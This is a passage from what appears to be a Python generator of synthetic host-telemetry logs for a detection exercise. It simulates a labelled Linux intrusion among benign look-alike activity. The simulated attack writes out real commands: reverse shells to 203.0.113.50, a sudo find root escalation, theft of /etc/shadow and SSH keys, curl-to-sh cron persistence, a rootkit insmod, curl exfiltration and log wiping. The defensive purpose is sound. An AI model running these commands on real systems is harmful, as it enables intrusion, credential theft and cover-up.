        rb = w.spawn(xs, k.t + w.ms(0.5, 2), ["nohup", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"])
        w.exec(rb, rb.t + w.ms(0.3, 0.8), ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"])
    with w.attack("T1620", "3 Fileless implant", "implant daemonizes (double fork)"):
        kd = w.fork(k, k.t + w.ms(1, 3))
        w.exit(k, kd.t + w.ms(0.2, 0.6), 0)
    with w.attack("T1059.004", "4 Reverse shells"):
        w.connect(rb, rb.t + w.ms(1, 3), A, 4444)
        w.exec(rb, rb.t + w.ms(0.2, 0.6), ["bash", "-i"])  # bash -c execs its single command in place
    with w.attack("T1204.002", "2 Download + execute"):
        w.exit(xs, max(rb.t, kd.t) + w.ms(2, 6), 0)
    with w.attack("T1071.001", "3 Fileless implant", "implant beacons to C2 over 443"):
        w.connect(kd, kd.t + w.sec(1, 3), A, 443)
    bi = rb  # interactive bash from the 4444 reverse shell (www-data, cwd /)

    # ---- 3b. python reverse shell as a second channel, then a PTY --------------------------
    t = bi.t + w.sec(25, 40)
    pyrev = ('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
             's.connect(("203.0.113.50",4445));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);'
             'os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);')
    with w.attack("T1059.006", "4 Reverse shells"):
        pr = w.spawn(bi, t, ["python3", "-c", pyrev])
        w.connect(pr, pr.t + w.ms(20, 40), A, 4445)
        si = w.spawn(pr, pr.t + w.ms(1, 3), ["/bin/sh", "-i"])
    t = si.t + w.sec(12, 25)
    with w.attack("T1059.006", "4 Reverse shells", "PTY upgrade"):
        pp = w.spawn(si, t, ["python3", "-c", "import pty; pty.spawn(\"/bin/bash\")"])
        pb = w.spawn(pp, pp.t + w.ms(3, 8), ["/bin/bash"])
    w.chdir(pb, "/tmp")  # `cd /tmp`

    # ---- 4. setuid discovery ----------------------------------------------------------------
    t = pb.t + w.sec(10, 20)
    with w.attack("T1083", "5 SUID discovery"):
        t = w.run(pb, t, ["find", "/", "-perm", "-4000", "-type", "f"], dur=(9000, 16000))

    # ---- 5. privilege escalation: sudo guessing burst, sudo -l, GTFOBins find ---------------
    t += w.sec(6, 12)
    with w.attack("T1110.001", "6 Privilege escalation", "password guessing via sudo -S"):
        for i in range(5):
            s = w.spawn(pb, t, ["sudo", "-S", "id"])
            y = s.t + w.ms(0.6, 1.5)
            w.open(s, y, "/etc/sudoers")
            y += w.ms(2, 6)
            w.open(s, y, "/etc/shadow")
            y += w.sec(2.0, 2.3)
            w.exit(s, y, 1)
            t = y + w.sec(1.0, 1.8)
    with w.attack("T1548.003", "6 Privilege escalation", "lists the NOPASSWD rule for /usr/bin/find"):
        t += w.sec(4, 8)
        t = w.run(pb, t, ["sudo", "-n", "-l"], body=lambda p, y: w.open(p, y, "/etc/sudoers") + w.ms(1, 3),
                  dur=(3, 8))
    t += w.sec(10, 18)
    gtfo = ["/usr/bin/find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"]
    with w.attack("T1548.003", "6 Privilege escalation", "GTFOBins: sudo find -exec /bin/sh"):
        s = w.spawn(pb, t, ["sudo", "-n", *gtfo])
        y = s.t + w.ms(0.6, 1.5)
        w.open(s, y, "/etc/sudoers")
        y += w.ms(3, 8)
        sc = w.fork(s, y)
        y += w.ms(0.1, 0.4)
        w.setgid(sc, y, 0)
        y += w.ms(0.02, 0.1)
        w.setuid(sc, y, 0)
        w.exec(sc, y + w.ms(0.1, 0.5), gtfo)
        rs = w.spawn(sc, sc.t + w.ms(1, 4), ["/bin/sh", "-p"])
    t = rs.t + w.sec(6, 12)
    with w.attack("T1548.001", "6 Privilege escalation", "root copy of bash for later re-entry"):
        def cp(p, y):
            w.open(p, y, "/bin/bash")
            return w.create(p, y + w.ms(0.2, 0.6), "/tmp/.rootbash") + w.ms(2, 5)
        t = w.run(rs, t, ["cp", "/bin/bash", "/tmp/.rootbash"], body=cp, dur=(0.5, 2))
        t += w.sec(3, 7)
        t = w.run(rs, t, ["chmod", "4755", "/tmp/.rootbash"],
                  body=lambda p, y: w.chmod(p, y, "/tmp/.rootbash", "4755"), dur=(0.3, 1))

    # ---- 6. credential access (as root) -----------------------------------------------------
    t += w.sec(8, 15)
    with w.attack("T1003.008", "7 Credential access"):
        t = w.run(rs, t, ["cat", "/etc/shadow"], body=lambda p, y: w.open(p, y, "/etc/shadow"), dur=(0.5, 1.5))
    t += w.sec(10, 20)
    with w.attack("T1552.004", "7 Credential access"):
        t = w.run(rs, t, ["cat", "/root/.ssh/id_rsa"], body=lambda p, y: w.open(p, y, "/root/.ssh/id_rsa"),
                  dur=(0.5, 1.5))
        t += w.sec(6, 12)
        t = w.run(rs, t, ["cat", "/home/admin/.ssh/id_ed25519"],
                  body=lambda p, y: w.open(p, y, "/home/admin/.ssh/id_ed25519"), dur=(0.5, 1.5))
    t += w.sec(4, 9)
    with w.attack("T1548.003", "6 Privilege escalation", "root shell from sudo ends"):
        w.exit(rs, t, 0)
        w.exit(sc, t + w.ms(0.3, 1), 0)
        w.exit(s, t + w.ms(1, 3), 0)

    # ---- 5b. re-enter root through the setuid copy, make the uid real ----------------------
    t += w.sec(40, 70)
    with w.attack("T1548.001", "6 Privilege escalation", "setuid-root bash copy from /tmp (euid 0, real uid 33)"):
        rb2 = w.spawn(pb, t, ["/tmp/.rootbash", "-p"])
    t = rb2.t + w.sec(6, 12)
    with w.attack("T1548.001", "6 Privilege escalation", "euid 0 -> real root via setgid/setuid"):
        pu = w.spawn(rb2, t, ["python3", "-c", "import os;os.setgid(0);os.setuid(0);os.execl(\"/bin/bash\",\"bash\",\"-i\")"])
        y = pu.t + w.ms(20, 40)
        w.setgid(pu, y, 0)
        w.setuid(pu, y + w.ms(0.02, 0.1), 0)
        w.exec(pu, y + w.ms(0.2, 0.6), ["bash", "-i"], path="/bin/bash")
    R = pu  # root bash, cwd /tmp

    # ---- 7. persistence ---------------------------------------------------------------------
    t = R.t + w.sec(15, 30)
    cron_line = '* * * * * root curl -s http://203.0.113.50:8080/p | sh'
    with w.attack("T1053.003", "8 Persistence", "cron job dropped as a dot-file"):
        t = w.run(R, t, ["sh", "-c", f'echo "{cron_line}" > /etc/cron.d/.sysupdate'],
                  body=lambda p, y: w.create(p, y, "/etc/cron.d/.sysupdate") + w.ms(0.2, 0.5), dur=(0.3, 1),
                  path="/bin/sh")
    t += w.sec(20, 40)
    with w.attack("T1543.002", "8 Persistence", "unit written with `cat > … <<EOF` (the shell opens the file before exec)"):
        c = w.fork(R, t)
        w.create(c, c.t + w.ms(0.1, 0.3), "/etc/systemd/system/dbus-helper.service")
        w.exec(c, c.t + w.ms(0.1, 0.3), ["cat"])
        t = w.exit(c, c.t + w.ms(1, 3), 0)
        t += w.sec(6, 12)
        t = w.run(R, t, ["systemctl", "daemon-reload"], dur=(150, 400))
        t += w.sec(4, 9)
        t = w.run(R, t, ["systemctl", "enable", "dbus-helper.service"],
                  body=lambda p, y: w.create(p, y + w.ms(60, 150),
                                             "/etc/systemd/system/multi-user.target.wants/dbus-helper.service")
                  + w.ms(1, 3), dur=(100, 300))
    t += w.sec(15, 30)
    with w.attack("T1098.004", "8 Persistence",
                  f"`echo '{ATTACKER_KEY}' >> /root/.ssh/authorized_keys` (bash builtin: no new process)"):
        w.write(R, t, "/root/.ssh/authorized_keys")

    # ---- 8. kernel module -------------------------------------------------------------------
    t += w.sec(30, 50)
    with w.attack("T1105", "9 Kernel module"):
        def get_ko(p, y):
            w.connect(p, y + w.ms(1, 3), A, 8080)
            return w.create(p, y + w.ms(300, 600), "/tmp/.k/rk.ko") + w.ms(1, 3)
        t = w.run(R, t, ["curl", "-fsSL", "--create-dirs", "-o", "/tmp/.k/rk.ko", "http://203.0.113.50:8080/rk.ko"],
                  body=get_ko, dur=(1, 3))
    t += w.sec(5, 10)
    with w.attack("T1547.006", "9 Kernel module"):
        def ins(p, y):
            w.open(p, y, "/tmp/.k/rk.ko")
            y += w.ms(1, 3)
            w.load_module(p, y, "/tmp/.k/rk.ko")
            return y + w.ms(5, 20)
        t = w.run(R, t, ["insmod", "/tmp/.k/rk.ko"], body=ins, dur=(1, 4))
    t += w.sec(4, 8)
    with w.attack("T1070.004", "9 Kernel module"):
        t = w.run(R, t, ["rm", "-rf", "/tmp/.k"], body=lambda p, y: w.unlink(p, y, "/tmp/.k/rk.ko") + w.ms(0.2, 0.5),
                  dur=(0.5, 1.5))

    # ---- 11. collection + exfiltration ------------------------------------------------------
    t += w.sec(25, 45)
    with w.attack("T1560.001", "10 Exfiltration"):
        tar = w.spawn(R, t, ["tar", "czf", "/dev/shm/.d.tgz", "/etc/shadow", "/root/.ssh"])
        y = tar.t + w.ms(1, 3)
        gz = w.fork(tar, y)
        w.create(gz, gz.t + w.ms(0.1, 0.3), "/dev/shm/.d.tgz")
        w.exec(gz, gz.t + w.ms(0.1, 0.3), ["gzip"], path="/usr/bin/gzip")
        y = gz.t + w.ms(1, 2)
        for f in ("/etc/shadow", "/root/.ssh/authorized_keys", "/root/.ssh/id_rsa", "/root/.ssh/id_rsa.pub",
                  "/root/.ssh/known_hosts"):
            w.open(tar, y, f)
            y += w.ms(0.2, 1)
        y += w.ms(2, 6)
        w.exit(gz, y, 0)
        t = w.exit(tar, y + w.ms(0.3, 1), 0)
    t += w.sec(8, 15)
    with w.attack("T1048.003", "10 Exfiltration"):
        def post(p, y):
            w.open(p, y + w.ms(1, 3), "/dev/shm/.d.tgz")
            return w.connect(p, y + w.ms(4, 8), A, 8080) + w.ms(100, 300)
        t = w.run(R, t, ["curl", "-s", "-X", "POST", "--data-binary", "@/dev/shm/.d.tgz", "http://203.0.113.50:8080/u"],
                  body=post, dur=(2, 6))
    t += w.sec(3, 6)
    with w.attack("T1070.004", "10 Exfiltration"):
        t = w.run(R, t, ["rm", "-f", "/dev/shm/.d.tgz"], body=lambda p, y: w.unlink(p, y, "/dev/shm/.d.tgz"),
                  dur=(0.3, 1))

    # ---- 9. anti-forensics ------------------------------------------------------------------
    t += w.sec(20, 35)
    with w.attack("T1070.002", "11 Log tampering"):
        t = w.run(R, t, ["truncate", "-s", "0", "/var/log/wtmp"],
                  body=lambda p, y: w.write(p, y, "/var/log/wtmp"), dur=(0.3, 1))
        t += w.sec(5, 10)

        def shred(p, y):
            w.write(p, y, "/var/log/auth.log")  # 3 overwrite passes on one fd
            y += w.ms(60, 120)
            prev = "/var/log/auth.log"
            for n in range(len("auth.log"), 0, -1):
                new = "/var/log/" + "0" * n
                w.rename(p, y, prev, new)
                prev = new
                y += w.ms(0.3, 1)
            w.unlink(p, y, prev)
            return y + w.ms(0.3, 1)
        t = w.run(R, t, ["shred", "-u", "/var/log/auth.log"], body=shred, dur=(0.5, 1.5))
        t += w.sec(4, 8)
        t = w.run(R, t, ["rm", "-f", "/var/log/auth.log.1"], body=lambda p, y: w.unlink(p, y, "/var/log/auth.log.1"),
                  dur=(0.3, 1))
        t += w.sec(5, 10)

        def vacuum(p, y):
            for j in ARCHIVED_JOURNALS:
                w.unlink(p, y, f"/var/log/journal/{MACHINE_ID}/{j}")
                y += w.ms(0.5, 2)
            return y
        t = w.run(R, t, ["journalctl", "--vacuum-time=1s"], body=vacuum, dur=(2, 8))
    t += w.sec(6, 12)
    with w.attack("T1070.003", "11 Log tampering"):
        hb = w.spawn(R, t, ["bash", "-c", "unset HISTFILE; history -c; rm -f /root/.bash_history"])
        w.exec(hb, hb.t + w.ms(0.5, 1), ["rm", "-f", "/root/.bash_history"])  # last command exec'd in place
        w.unlink(hb, hb.t + w.ms(0.2, 0.6), "/root/.bash_history")
        t = w.exit(hb, hb.t + w.ms(0.3, 1), 0)

    # ---- the attacker leaves; the implant keeps beaconing -----------------------------------
    t += w.sec(10, 20)
    with w.attack("T1059.004", "12 Session ends"):
        for p in (R, rb2, pb, pp, si, pr, bi):
            w.exit(p, t, 0)
            t += w.ms(2, 30)
    end_attack = t
    with w.attack("T1071.001", "3 Fileless implant", "implant beacons to C2 over 443"):
        b = kd.t
        while True:
            b += w.sec(300, 720)
            if b > END_T - 5 * US:
                break
            w.connect(kd, b, A, 443)
    return end_attack


# --------------------------------------------------------------------------------------------
# Rendering, validation, docs
# --------------------------------------------------------------------------------------------
def entity_id(pid: int, start: int) -> str:
    h = hashlib.sha256(f"{HOST['id']}|{pid}|{start}".encode()).digest()[:16]
    return base64.b64encode(h).decode().rstrip("=")


def finalize(w: World):
    rng = random.Random(SEED + 1)
    new = sorted((p for p in w.procs if not p.pre), key=lambda p: (p.start, p.serial))
    pid = FIRST_PID
    for p in new:
        p.pid = pid
        r = rng.random()
        pid += 1 + (0 if r < 0.72 else rng.randint(1, 3) if r < 0.93 else rng.randint(4, 14) if r < 0.99
                    else rng.randint(15, 60))
    for p in w.procs:
        p.eid = entity_id(p.pid, p.start)
    w.events.sort(key=lambda e: (e.t, e.ctr))


def render(ev: Ev, seq: int) -> dict:
    p, im = ev.proc, ev.img
    e = {"id": f"evt-{seq:06d}", "kind": "event", "category": [CATEGORY_OF[ev.action]],
         "type": [EVENT_TYPE[ev.action]], "action": ev.action}
    if ev.outcome:
        e["outcome"] = ev.outcome
    e["sequence"] = seq
    proc = {"pid": p.pid, "entity_id": p.eid, "name": im.name, "executable": im.exe,
            "command_line": " ".join(im.args), "args": list(im.args), "args_count": len(im.args),
            "working_directory": im.cwd, "start": ts(p.start),
            "user": {"id": str(im.uid), "name": USERS[im.uid]},
            "real_user": {"id": str(im.uid), "name": USERS[im.uid]},
            "group": {"id": str(im.gid), "name": GROUPS[im.gid]},
            "real_group": {"id": str(im.gid), "name": GROUPS[im.gid]}}
    if ev.exit_code is not None:
        proc["exit_code"] = ev.exit_code
    if ev.parent is not None:
        pi = ev.pimg
        proc["parent"] = {"pid": ev.parent.pid, "entity_id": ev.parent.eid, "name": pi.name,
                          "executable": pi.exe, "command_line": " ".join(pi.args), "args": list(pi.args)}
    d = {"@timestamp": ts(ev.t), "event": e, "host": dict(HOST), "process": proc}
    if im.container:
        d["container"] = {"id": im.container}
    for k, v in ev.extra.items():
        if k == "target":
            tp = v["process"]["_proc"]
            v = {"process": {"pid": tp.pid, "entity_id": tp.eid, "name": tp.image.name,
                             "executable": tp.image.exe}}
        d[k] = v
    return d


TS_RE = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")


def validate(lines: list[str], preexisting: dict[str, int]) -> None:
    errs = []

    def err(i, msg):
        errs.append(f"line {i + 1}: {msg}")

    live: dict[str, int] = dict(preexisting)  # entity_id -> pid
    exited: set[str] = set()
    forked: set[str] = set()
    seen_ids: set[str] = set()
    prev_ts = ""
    for i, line in enumerate(lines):
        try:
            d = json.loads(line)
        except json.JSONDecodeError as ex:
            err(i, f"not JSON: {ex}")
            continue
        ev, pr = d.get("event", {}), d.get("process", {})
        if any("." in k and k != "@timestamp" for k in d):
            err(i, "dotted top-level key")
        if ev.get("id") in seen_ids:
            err(i, f"duplicate id {ev.get('id')}")
        seen_ids.add(ev.get("id"))
        if ev.get("sequence") != i + 1 or ev.get("id") != f"evt-{i + 1:06d}":
            err(i, "sequence/id not incrementing")
        tsv = d.get("@timestamp", "")
        if not TS_RE.match(tsv) or tsv < prev_ts:
            err(i, f"bad or unsorted @timestamp {tsv}")
        prev_ts = tsv
        if d.get("host") != HOST:
            err(i, "host")
        a = ev.get("action")
        if a not in EVENT_TYPE or ev.get("category") != [CATEGORY_OF[a]] or ev.get("type") != [EVENT_TYPE[a]] \
                or ev.get("kind") != "event":
            err(i, f"vocabulary: {ev}")
        for f in ("pid", "entity_id", "name", "executable", "command_line", "args", "args_count",
                  "working_directory", "start", "user", "group"):
            if f not in pr:
                err(i, f"process.{f} missing")
        if pr.get("args_count") != len(pr.get("args", [])) or pr.get("command_line") != " ".join(pr.get("args", [])):
            err(i, "args/args_count/command_line mismatch")
        if not isinstance(pr.get("pid"), int):
            err(i, "pid not int")
        cat = ev.get("category", [""])[0]
        if cat == "file" or a == "load_module":
            f = d.get("file", {})
            if not f.get("path", "").startswith("/") or f.get("name") != posixpath.basename(f["path"]) \
                    or f.get("directory") != (posixpath.dirname(f["path"]) or "/"):
                err(i, f"file fields {f}")
            if a == "chmod" and not re.fullmatch(r"[0-7]{4}", f.get("mode", "")):
                err(i, "chmod without octal file.mode")
            if a == "rename" and not f.get("original_path"):
                err(i, "rename without file.original_path")
        if cat == "network":
            s, dst, n = d.get("source", {}), d.get("destination", {}), d.get("network", {})
            if not isinstance(s.get("port"), int) or n.get("transport") not in ("tcp", "udp") \
                    or n.get("type") not in ("ipv4", "ipv6"):
                err(i, "network fields")
            if a != "bind" and (not isinstance(dst.get("port"), int) or
                                n.get("direction") != {"connection_attempted": "egress", "connection_accepted": "ingress"}[a]):
                err(i, "connect/accept fields")
            for ip in (s.get("ip"), dst.get("ip")):
                if ip and not (ip.startswith(("10.0.0.", "127.", "198.51.100.", "192.0.2.", "203.0.113.", "2001:db8:"))
                               or ip in ("0.0.0.0", "::")):
                    err(i, f"non-documentation IP {ip}")
        if a in ("uid_change", "gid_change"):
            key = "user" if a == "uid_change" else "group"
            if "id" not in d.get(key, {}):
                err(i, f"{a} without {key}.id")
        elif "user" in d or "group" in d:
            err(i, "top-level user/group outside setuid/setgid")
        if a == "end" and not isinstance(pr.get("exit_code"), int):
            err(i, "exit without exit_code")
        # lineage
        eid, pid = pr.get("entity_id"), pr.get("pid")
        par = pr.get("parent")
        if a == "fork":
            if eid in live or eid in exited:
                err(i, f"fork of existing entity {eid}")
            if pid in live.values():
                err(i, f"pid {pid} reused while alive")
            live[eid] = pid
            forked.add(eid)
        else:
            if eid not in live:
                err(i, f"event on unknown/exited process {pid} {pr.get('name')}")
            elif a == "exec" and eid not in preexisting and eid not in forked:
                err(i, "exec without prior fork")
        if par is None:
            if eid not in preexisting:
                err(i, "parent missing")
        else:
            if live.get(par.get("entity_id")) != par.get("pid"):
                err(i, f"parent {par.get('pid')} {par.get('name')} not running at this time")
        if a == "end" and eid in live:
            del live[eid]
            exited.add(eid)
    if errs:
        raise SystemExit("sample log validation FAILED:\n  " + "\n  ".join(errs[:40]) +
                         (f"\n  … and {len(errs) - 40} more" if len(errs) > 40 else ""))


def describe(d: dict) -> str:
    e, p = d["event"], d["process"]
    a = e["action"]
    who = f"`{p['name']}` ({p['pid']}, uid {p['user']['id']})"
    f = d.get("file", {})
    if a == "fork":
        return f"`{p['parent']['name']}` ({p['parent']['pid']}) forks {p['pid']}"
    if a == "exec":
        return f"{p['pid']} execs `{p['command_line']}` as uid {p['user']['id']} (exe {p['executable']}; parent `{p['parent']['name']}` {p['parent']['pid']})"
    if a == "end":
        return f"{who} exits, code {p['exit_code']}"
    if a == "uid_change":
        return f"{who} setuid → {d['user']['id']} ({d['user']['name']})"
    if a == "gid_change":
        return f"{who} setgid → {d['group']['id']} ({d['group']['name']})"
    if a == "memfd_create":
        return f"{who} memfd_create → {f['name']}"
    if a == "open":
        return f"{who} reads {f['path']}"
    if a == "modification":
        return f"{who} opens {f['path']} for writing"
    if a == "creation":
        return f"{who} creates {f['path']}"
    if a == "deletion":
        return f"{who} deletes {f['path']}"
    if a == "rename":
        return f"{who} renames {f['original_path']} → {f['path']}"
    if a == "chmod":
        return f"{who} chmod {f['mode']} {f['path']}"
    if a == "chown":
        return f"{who} chown {f['path']}"
    if a == "connection_attempted":
        return f"{who} connects to {d['destination']['ip']}:{d['destination']['port']}/{d['network']['transport']}"
    if a == "connection_accepted":
        return f"{who} accepts {d['source']['ip']}:{d['source']['port']} on :{d['destination']['port']}"
    if a == "load_module":
        return f"{who} loads kernel module {f['path']}"
    return f"{who} {a}"


def md_escape(s: str) -> str:
    return s.replace("|", "\\|")


def replace_block(text: str, name: str, body: str) -> str:
    b, e = f"<!-- BEGIN GENERATED: {name} -->", f"<!-- END GENERATED: {name} -->"
    i, j = text.find(b), text.find(e)
    if i < 0 or j < 0:
        raise SystemExit(f"{DOC}: markers for '{name}' not found")
    return text[:i + len(b)] + "\n" + body.rstrip("\n") + "\n" + text[j:]


def build():
    Proc._serial = 0
    w = World(SEED)
    boot(w)
    admin(w)  # first: the nginx restart decides which workers accept when
    web_traffic(w)
    ssh_scanners(w)
    redis_healthcheck(w)
    sessionclean_timer(w)
    sysstat(w)
    cron_scheduler(w)
    hourly_logrotate(w)
    nightly_backup(w)
    developer(w)
    attack(w)
    finalize(w)
    docs = [render(ev, i + 1) for i, ev in enumerate(w.events)]
    lines = [json.dumps(d, separators=(",", ":"), ensure_ascii=False) for d in docs]
    pre = {p.eid: p.pid for p in w.procs if p.pre}
    validate(lines, pre)
    attack_rows = [(d, ev.attack) for d, ev in zip(docs, w.events) if ev.attack]
    return w, docs, lines, attack_rows


def _exec(d, *names):
    return d["event"]["action"] == "exec" and (not names or d["process"]["name"] in names)


def _f(d, action=None):
    f = d.get("file")
    return f is not None and (action is None or d["event"]["action"] == action)


def _path(d):
    return d.get("file", {}).get("path", "")


def _pname(d):
    return d["process"].get("parent", {}).get("name", "")


KEY_RE = re.compile(r"(id_rsa|id_ed25519[^/]*|_key|\.key|backup_ed25519)$")

# (title, why it is benign / how it differs from the attack, predicate over a BENIGN event)
LOOKALIKES = [
    ("Web worker starts a process",
     "php-fpm runs ImageMagick `convert` for thumbnails (proc_open with an argv array: no shell in between). "
     "The attack's children of php-fpm are shells (`sh -c …`) and what they exec.",
     lambda d: d["event"]["action"] in ("fork", "exec") and _pname(d) == "php-fpm8.2"),
    ("www-data runs a shell and PHP — but under cron",
     "www-data's crontab runs `sh -c 'cd /var/www/app && php artisan schedule:run'`, and at :00 Laravel spawns "
     "`/bin/sh -c '/usr/bin/php8.2' 'artisan' inventory:sync` which calls an external API on 443. The ancestry is "
     "cron, not php-fpm/nginx.",
     lambda d: _exec(d, "sh", "php", "php8.2") and d["process"]["user"]["id"] == "33"),
    ("Recon-looking commands typed by people",
     "admin runs `cat /etc/os-release` and `uname -r`, maria runs `id` before using sudo, both run `ls`, `ps aux`, "
     "`grep`, `find`; pam_motd runs `uname -snrvm` as root on every SSH login. The attack's `id`, `uname -a`, "
     "`cat /etc/os-release` run as www-data under `sh -c` whose parent is php-fpm.",
     lambda d: _exec(d, "uname", "id", "whoami") or (_exec(d, "cat") and "/etc/os-release" in d["process"]["args"])),
    ("Downloads and API calls over HTTPS",
     "curl/jq against api.example.net, pip in a venv, git over https, apt's `https` method (running as _apt), "
     "dockerd pulling an image, php calling an API. All resolve a name first (udp/53 to 127.0.0.53); the attacker "
     "uses IP literals and ports 8080/4444/4445 (plus 443 for the implant's beacons).",
     lambda d: d["event"]["action"] == "connection_attempted" and d["destination"]["port"] == 443),
    ("Files created in /tmp",
     "cc1 writes /tmp/cc*.s (gcc deletes them), strace writes /tmp/strace-svc.txt, containerd-shim writes "
     "/tmp/runc-process*. Nothing benign is executed from /tmp or /dev/shm and nothing there gets a setuid bit.",
     lambda d: _f(d, "creation") and _path(d).startswith("/tmp/")),
    ("Reads of /etc/shadow",
     "sudo (password check), cron and sshd (PAM account phase), passwd, useradd and the 10:00 backup's tar all read "
     "it. In the attack only `cat` and the exfil `tar` under a www-data → sudo/find → `sh -p` ancestry do, plus the "
     "failing `sudo -S` burst.",
     lambda d: _f(d, "open") and _path(d) == "/etc/shadow"),
    ("Writes to /etc/shadow, /etc/passwd, /etc/group",
     "`passwd` (setuid root; real uid 1000) writes /etc/shadow- and /etc/shadow+ then renames over /etc/shadow "
     "(with chown root:shadow, chmod 0640); apt's postinst runs groupadd/useradd for the `prometheus` user.",
     lambda d: _f(d) and d["event"]["action"] != "open" and re.match(r"^/etc/(shadow|passwd|group|gshadow)", _path(d))
     is not None),
    ("Private keys read",
     "ssh reads ~/.ssh/id_ed25519 for `git push` and `ssh deploy@10.0.0.30`; the backup's ssh reads "
     "/root/.ssh/backup_ed25519; nginx (-t and on restart) reads its TLS key; the backup tar reads the SSH host keys. "
     "Attack: `cat /root/.ssh/id_rsa`, `cat /home/admin/.ssh/id_ed25519`, tar of /root/.ssh.",
     lambda d: _f(d, "open") and KEY_RE.search(_path(d)) is not None),
    ("New SSH key material",
     "maria runs `ssh-keygen -t ed25519 … -f ~/.ssh/id_ed25519_ci` (create + chmod 0600).",
     lambda d: _f(d) and "/.ssh/" in _path(d) and d["event"]["action"] in ("creation", "chmod", "modification")),
    ("systemd units installed and enabled",
     "dpkg unpacks /lib/systemd/system/prometheus-node-exporter.service (as .dpkg-new + rename), deb-systemd-helper "
     "creates the multi-user.target.wants symlink, the postinst runs `systemctl daemon-reload` and starts the "
     "service. Same shape as the attacker's dbus-helper.service, but by dpkg's maintainer scripts under apt-get.",
     lambda d: (_f(d) and "systemd/system/" in _path(d) and d["event"]["action"] != "open")
     or (_exec(d, "systemctl") and "daemon-reload" in d["process"]["args"])),
    ("setuid / setgid",
     "sudo's child before exec (→0), sshd's session process (→1001), cron's job process (→33), apt's methods (→_apt "
     "42), nginx workers (→33), systemd starting node-exporter (→109), mandb (→man 6). The attack's are "
     "www-data→0: sudo's child for `find`, and python3 under /tmp/.rootbash.",
     lambda d: d["event"]["action"] in ("uid_change", "gid_change")),
    ("Kernel modules loaded",
     "`systemd-modules-load` (comm is cut to `systemd-modules`) loads br_netfilter after admin adds "
     "/etc/modules-load.d/k8s.conf (overlay there is already loaded), and admin runs `sudo modprobe tcp_bbr`. Both "
     "come from /lib/modules/<kver>/; the rootkit comes from /tmp/.k/ via `insmod` (exe /usr/bin/kmod too).",
     lambda d: d["event"]["action"] == "load_module"),
    ("Log files renamed, truncated, deleted",
     "logrotate (cron, :17) renames access.log.N.gz → N+1, deletes the oldest, recreates the log with "
     "chmod 0640/chown www-data:adm and gzips; sysstat writes /var/log/sysstat; phpsessionclean's find -delete "
     "removes PHP session files; the backup prunes an old archive.",
     lambda d: _f(d) and d["event"]["action"] in ("rename", "deletion", "creation", "modification", "chmod", "chown")
     and (_path(d).startswith("/var/log/") or _path(d).startswith("/var/lib/php/sessions/")
          or _path(d).startswith("/var/backups/"))),
    ("journalctl reading the journal",
     "admin runs `sudo journalctl -u nginx …` (opens only). The attacker's `journalctl --vacuum-time=1s` deletes "
     "archived journal files.",
     lambda d: d["process"]["name"] == "journalctl"),
    ("Failed sudo",
     "admin fails once (09:05, Ctrl-C after a typo); maria fails twice, about a minute apart (10:03–10:04), then "
     "succeeds. "
     "The attack: five `sudo -S id` failures by www-data within ~16 s.",
     lambda d: d["event"]["action"] == "end" and d["process"]["name"] == "sudo" and d["process"]["exit_code"] != 0),
    ("ptrace",
     "maria runs `strace -f` on her own binary.",
     lambda d: d["event"]["action"] == "ptrace"),
    ("chmod",
     "ld marks its output 0755, dpkg sets 0755/0644 on files it unpacks, ssh-keygen 0600, logrotate and passwd 0640. "
     "No benign chmod sets a setuid/setgid bit or touches /tmp or /dev/shm.",
     lambda d: d["event"]["action"] == "chmod"),
    ("Processes inside containers",
     "the redis HEALTHCHECK (`redis-cli ping` every 10 min) and `docker run --rm nginx:1.25-alpine nginx -v`: "
     "shim → runc → `runc init` (comm `runc:[2:INIT]`, exe /usr/bin/runc) → the container's binary, with container.id.",
     lambda d: "container" in d),
    ("SSH connections that never log in",
     "Internet scanners on :22; sshd's re-exec'd child exits 255 seconds later.",
     lambda d: d["event"]["action"] == "end" and d["process"]["name"] == "sshd" and d["process"]["exit_code"] == 255),
    ("Clients from 203.0.113.0/24",
     "Ordinary HTTPS clients share the attacker's /24; only 203.0.113.50 is the attacker.",
     lambda d: d["event"]["action"] == "connection_accepted" and d["source"]["ip"].startswith("203.0.113.")),
    ("Benign processes touching the attacker's files",
     "The 10:00 backup's tar reads /etc/cron.d/.sysupdate and /etc/systemd/system/dbus-helper.service because "
     "they are in /etc by then. These events are benign (not in attack-event-ids.txt): a rule keyed on the path "
     "alone would fire on the backup.",
     lambda d: _f(d) and _path(d) in ("/etc/cron.d/.sysupdate", "/etc/systemd/system/dbus-helper.service")),
]


def lookalike_block(docs, is_attack):
    out = []
    for title, why, pred in LOOKALIKES:
        hits = [d["event"]["id"] for d, a in zip(docs, is_attack) if not a and pred(d)]
        if not hits:
            raise SystemExit(f"look-alike '{title}' matches no benign event")
        ex = ", ".join(f"`{h}`" for h in hits[:4])
        out.append(f"- **{title}** — {why} *{len(hits)} event{'s' if len(hits) > 1 else ''}, e.g. {ex}.*")
    return "\n".join(out)


def doc_blocks(docs, attack_rows, log_bytes):
    rows = ["| # | event.id | time (UTC) | step | ATT&CK | what happens |", "|---|---|---|---|---|---|"]
    prev_note = None
    for n, (d, a) in enumerate(attack_rows, 1):
        desc = describe(d)
        if a.get("note") and a["note"] != prev_note:  # a note is shown on the first event of its run
            desc += f" — {a['note']}"
        prev_note = a.get("note")
        rows.append(f"| {n} | `{d['event']['id']}` | {d['@timestamp'][11:23]} | {a.get('step', '')} | "
                    f"{a['tech']} | {md_escape(desc)} |")
    table = "\n".join(rows)
    by_action: dict[str, int] = {}
    by_cat: dict[str, int] = {}
    for d in docs:
        by_action[d["event"]["action"]] = by_action.get(d["event"]["action"], 0) + 1
        c = d["event"]["category"][0]
        by_cat[c] = by_cat.get(c, 0) + 1
    att_action: dict[str, int] = {}
    for d, _ in attack_rows:
        att_action[d["event"]["action"]] = att_action.get(d["event"]["action"], 0) + 1
    pids = {d["process"]["entity_id"] for d in docs}
    stats = [f"- events: **{len(docs)}** ({len(attack_rows)} attack, {len(docs) - len(attack_rows)} benign), "
             f"{len(pids)} distinct process instances, {log_bytes / 1e6:.2f} MB",
             f"- first event `{docs[0]['@timestamp']}`, last `{docs[-1]['@timestamp']}`",
